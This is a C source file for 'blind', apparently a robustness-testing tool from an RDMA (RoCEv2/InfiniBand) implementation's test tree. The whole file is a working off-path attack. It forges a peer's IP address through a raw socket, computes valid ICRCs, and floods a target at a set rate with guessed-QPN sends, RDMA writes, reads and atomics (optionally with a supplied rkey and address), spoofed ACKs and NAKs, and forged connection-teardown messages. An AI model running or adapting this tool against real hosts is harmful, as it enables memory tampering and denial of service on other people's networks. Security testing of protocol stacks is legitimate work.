// blind.c - a third host that forges a peer's address and guesses the rest: requests, acknowledgements, notifications
// and MADs, to guessed or known queue pair numbers
// follows: IBA volume 1, 9.2 (headers), 12.6 (messages); annex A17; raw(7)
// SPDX-License-Identifier: MIT
// usage: blind -s AS -d TO [-n PACKETS] [-r PACKETS PER SECOND] [-q QPN]... [-k RKEY -v ADDRESS] [-l] [-c]; -l: of the lanes
// of these; -c: connection management alone
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "../unit/frame/reference.h"
#include "frame/cm.h"
#include "frame/mad.h"
#include "frame/packet.h"

#define BATCH 64
#define HEADERS 28 /* IP and UDP */
#define LONGEST 400
#define QPNS 8

struct attack {
	struct in_addr as, to;
	uint64_t packets, rate;
	uint32_t qpn[QPNS], qpns, rkey;
	uint64_t va;
	bool lane, cm;
};

static uint64_t state[2];

/* xorshift128+ with a random seed: each run tries something else. */
static uint64_t any(void)
{
	uint64_t a = state[0], b = state[1];

	state[0] = b;
	a ^= a << 23;
	state[1] = a ^ b ^ a >> 17 ^ b >> 26;
	return state[1] + b;
}

static const uint8_t opcodes[] = {
        VB_RC_SEND_ONLY,
        VB_RC_SEND_FIRST,
        VB_RC_SEND_ONLY_IMM,
        VB_RC_SEND_ONLY_INV,
        VB_RC_WRITE_ONLY,
        VB_RC_WRITE_ONLY_IMM,
        VB_RC_READ_REQUEST,
        VB_RC_CMP_SWAP,
        VB_RC_FETCH_ADD,
        VB_RC_ACK,
        VB_RC_ACK,
        VB_RC_ACK,
        VB_RC_READ_RESPONSE_ONLY,
        VB_RC_READ_RESPONSE_LAST,
        VB_RC_ATOMIC_ACK,
        VB_UC_SEND_ONLY,
        VB_UC_SEND_FIRST,
        VB_UC_WRITE_ONLY,
        VB_UC_SEND_ONLY_IMM,
        VB_UC_WRITE_ONLY_IMM,
        VB_CNP,
};

/* A random number, a known one, or one in the lane of its program. */
static uint32_t some_qpn(const struct attack *a)
{
	uint32_t known = a->qpns ? a->qpn[any() % a->qpns] : (uint32_t)any() & 0xffffff;

	return a->cm ? 1 : a->lane ? (known & ~0x3fffu) | ((uint32_t)any() & 0x3fff) : known;
}

static struct vb_packet some_packet(const struct attack *a, uint32_t *payload)
{
	static const uint8_t naks[] = {VB_NAK_PSN_SEQUENCE, VB_NAK_INVALID_REQUEST, VB_NAK_REMOTE_ACCESS,
	                               VB_NAK_REMOTE_OPERATIONAL};
	struct vb_packet p = {.bth = {.opcode = a->cm ? VB_UD_SEND_ONLY : opcodes[any() % sizeof(opcodes)],
	                              .migreq = true,
	                              .pkey = 0xffff,
	                              .dest_qpn = some_qpn(a),
	                              .ack_req = any() & 1,
	                              .psn = vb_psn((uint32_t)any())}};
	const struct vb_opcode_info *info = vb_opcode_info(p.bth.opcode);
	uint64_t kind = any() % 6;

	*payload = a->cm ? VB_MAD_LEN : !(info->flags & VB_PAYLOAD) ? 0 : info->flags & VB_LAST ? 8 : 256;
	p.bth.becn = p.bth.opcode == VB_CNP;
	p.deth = (struct vb_deth){VB_GSI_QKEY, 1};
	p.reth = (struct vb_reth){a->va, a->rkey ? a->rkey : (uint32_t)any(),
	                          p.bth.opcode == VB_RC_READ_REQUEST ? 8 : *payload};
	p.atomic = (struct vb_atomic){a->va, p.reth.rkey, any(), any()};
	p.aeth = (struct vb_aeth){.kind = kind < 2    ? VB_AETH_ACK
	                                  : kind == 2 ? VB_AETH_RNR_NAK
	                                              : VB_AETH_NAK,
	                          .value = kind < 3 ? (uint8_t)(any() & 31) : naks[any() % 4]};
	p.ieth.rkey = p.reth.rkey;
	return p;
}

/* Every message that a peer of a connection may send; the lanes of both are known. */
static void some_message(uint8_t mad[VB_MAD_LEN], uint32_t lane)
{
	static const uint16_t attrs[] = {VB_CM_REP,  VB_CM_RTU, VB_CM_REJ, VB_CM_DREQ,
	                                 VB_CM_DREP, VB_CM_MRA, VB_CM_LAP, VB_CM_SIDR_REP};
	struct vb_cm_msg m = {.attr = (enum vb_cm_attr)attrs[any() % 8], .tid = any()};
	uint32_t ours = lane << 22 | ((uint32_t)any() & 0x3fffff), theirs = lane << 22 | ((uint32_t)any() & 0x3fffff);

	switch (m.attr) {
	case VB_CM_REP:
		m.rep.remote_comm_id = ours, m.rep.local_comm_id = theirs, m.rep.local_qpn = any() & 0xffffff;
		break;
	case VB_CM_RTU:
		m.rtu.remote_comm_id = ours, m.rtu.local_comm_id = theirs;
		break;
	case VB_CM_REJ:
		m.rej.remote_comm_id = ours, m.rej.local_comm_id = theirs, m.rej.reason = VB_CM_REJ_STALE_CONN;
		break;
	case VB_CM_DREQ:
		m.dreq.remote_comm_id = ours, m.dreq.local_comm_id = theirs,
		m.dreq.remote_qpn = lane << 14 | (any() & 0x3fff);
		break;
	case VB_CM_DREP:
		m.drep.remote_comm_id = ours, m.drep.local_comm_id = theirs;
		break;
	case VB_CM_MRA:
		m.mra.remote_comm_id = ours, m.mra.local_comm_id = theirs;
		break;
	case VB_CM_LAP:
		m.lap.remote_comm_id = ours, m.lap.local_comm_id = theirs;
		break;
	default:
		m.sidr_rep.request_id = ours;
		break;
	}
	vb_cm_encode(mad, &m);
}

/* Identification 0, as in RoCE packets with DF. */
static size_t build(const struct attack *a, uint8_t *to)
{
	uint32_t payload;
	struct vb_packet p = some_packet(a, &payload);
	struct vb_writer w = vb_writer(to + HEADERS, LONGEST - HEADERS);

	vb_packet_encode(&w, &p);
	if (a->cm)
		some_message(to + HEADERS + w.pos, a->qpns ? a->qpn[0] >> 14 : any() & 0x3ff);
	else
		memset(to + HEADERS + w.pos, 'f', payload);
	size_t udp = 8 + w.pos + payload + 4, all = 20 + udp;
	struct iphdr ip = {.version = 4,
	                   .ihl = 5,
	                   .ttl = 64,
	                   .protocol = IPPROTO_UDP,
	                   .frag_off = htons(IP_DF),
	                   .tot_len = htons((uint16_t)all),
	                   .saddr = a->as.s_addr,
	                   .daddr = a->to.s_addr};
	uint16_t ports[4] = {htons((uint16_t)(0xc000 | any())), htons(4791), htons((uint16_t)udp), 0};

	memcpy(to, &ip, sizeof(ip));
	memcpy(to + 20, ports, sizeof(ports));
	ref_icrc(to, all, to + all - 4);
	return all;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static uint64_t run(const struct attack *a, int fd)
{
	static uint8_t bytes[BATCH][LONGEST];
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = a->to};
	struct iovec iov[BATCH];
	struct mmsghdr mh[BATCH];
	double start = now();
	uint64_t sent = 0;

	while (sent < a->packets) {
		for (unsigned i = 0; i < BATCH; i++) {
			iov[i] = (struct iovec){bytes[i], build(a, bytes[i])};
			mh[i].msg_hdr = (struct msghdr){
			        .msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &iov[i], .msg_iovlen = 1};
		}
		int n = sendmmsg(fd, mh, BATCH, 0);

		if (n < 0 && errno != ENOBUFS && errno != EAGAIN) {
			perror("sendmmsg");
			exit(1);
		}
		sent += n > 0 ? (uint64_t)n : 0;
		double ahead = (double)sent / (double)a->rate - (now() - start);

		if (ahead > 0.001)
			nanosleep(&(struct timespec){.tv_sec = (time_t)ahead,
			                             .tv_nsec = (long)((ahead - (double)(time_t)ahead) * 1e9)},
			          NULL);
	}
	return sent;
}

int main(int argc, char **argv)
{
	struct attack a = {.packets = 1000000, .rate = 100000};

	for (int c; (c = getopt(argc, argv, "s:d:n:r:q:k:v:lc")) != -1;)
		if (c == 's')
			inet_pton(AF_INET, optarg, &a.as);
		else if (c == 'd')
			inet_pton(AF_INET, optarg, &a.to);
		else if (c == 'n')
			a.packets = strtoull(optarg, NULL, 0);
		else if (c == 'r')
			a.rate = strtoull(optarg, NULL, 0);
		else if (c == 'q' && a.qpns < QPNS)
			a.qpn[a.qpns++] = (uint32_t)strtoul(optarg, NULL, 16);
		else if (c == 'k')
			a.rkey = (uint32_t)strtoul(optarg, NULL, 16);
		else if (c == 'v')
			a.va = strtoull(optarg, NULL, 16);
		else if (c == 'c')
			a.cm = true;
		else if (c == 'l')
			a.lane = true;
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	if (fd < 0 || !a.as.s_addr || !a.to.s_addr || getrandom(state, sizeof(state), 0) != sizeof(state)) {
		fprintf(stderr,
		        "usage: blind -s AS -d TO [-n PACKETS] [-r RATE] [-q QPN]... [-k RKEY -v ADDRESS] [-l] [-c]\n");
		return 2;
	}
	printf("sent %llu\n", (unsigned long long)run(&a, fd));
	return 0;
}
